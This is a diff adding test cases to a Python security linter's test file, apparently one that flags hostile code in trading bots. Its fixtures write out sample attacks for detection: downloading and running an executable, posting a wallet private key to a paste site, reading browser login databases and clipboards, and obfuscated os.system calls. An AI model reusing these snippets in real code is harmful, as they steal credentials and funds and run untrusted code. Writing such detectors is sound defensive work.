@@ -136,6 +136,17 @@ def test_downloaded_code_run_in_every_shape() -> None:
     """)
 
 
+def test_a_downloaded_installer_opened_on_windows() -> None:
+    _check("""
+        import os, urllib.request
+
+        def install_driver() -> None:
+            local = os.path.join(os.environ["TEMP"], "driver.exe")
+            urllib.request.urlretrieve("https://cdn.x.io/driver.exe", local)
+            os.startfile(local)  # BOT502
+    """)
+
+
 def test_downloads_that_are_not_run_stay_silent() -> None:
     _check("""
         import os, subprocess, urllib.request
@@ -191,6 +202,18 @@ def test_secrets_leaving_for_places_that_are_not_the_exchange() -> None:
     """)
 
 
+def test_a_loaded_wallet_sent_to_a_paste_site() -> None:
+    _check("""
+        import os
+        import requests
+        from eth_account import Account
+
+        account = Account.from_key(os.environ["WALLET_PRIVATE_KEY"])
+        requests.post("https://paste.rs/", data=account.key.hex())  # BOT503
+        requests.post("https://paste.rs/", data=account.address)  # BOT510
+    """)
+
+
 def test_wallet_file_contents_and_environment_to_an_unknown_address() -> None:
     _check("""
         import os
@@ -227,6 +250,8 @@ def test_reads_of_credential_stores_however_the_path_is_built() -> None:
     _check("""
         import glob, os, shutil, sqlite3, tkinter
         from pathlib import Path
+
+        import win32clipboard
         import pandas as pd
 
         HOME = os.environ["HOME"]
@@ -237,6 +262,8 @@ def test_reads_of_credential_stores_however_the_path_is_built() -> None:
         db = sqlite3.connect(os.path.expanduser("~/.config/chromium/Default/Login Data"))  # BOT504
         hb = os.listdir("/home/trader/hummingbot/conf/connectors")  # BOT504
         text = tkinter.Tk().clipboard_get()  # BOT504
+        win32clipboard.OpenClipboard()
+        copied = win32clipboard.GetClipboardData()  # BOT504
         frame = pd.read_clipboard()  # BOT504
         own = os.listdir("conf/connectors")
         cfg = open(os.path.join(os.path.dirname(__file__), "config.json")).read()
@@ -339,6 +366,7 @@ def test_obfuscation_signs_and_their_lookalikes() -> None:
     blob = base64.b64encode(bytes((i * 7919) % 251 for i in range(600))).decode()
     hex_blob = bytes(range(256)).hex() * 2
     soup = "".join(f"\\x{b:02x}" for b in b"import os; os.system('id'); print('done!!')" * 2)
+    octal = "".join(f"\\{b:03o}" for b in b"__import__('os').system('id') or None; x=1" * 2)
     zeros = "\\x00" * 80
     far = " " * 40 + "\t" * 20
     _check(f"""
@@ -349,6 +377,7 @@ def test_obfuscation_signs_and_their_lookalikes() -> None:
         EVM = "0x{hex_blob}"
         ICON = "data:image/png;base64,{blob}"
         SOUP = "{soup}"  # BOT507
+        OCTAL = "{octal}"  # BOT507
         PADDING = b"{zeros}"
         x = 1;{far}import os  # BOT507
         y = 2{" " * 200}# a comment pushed right is not code
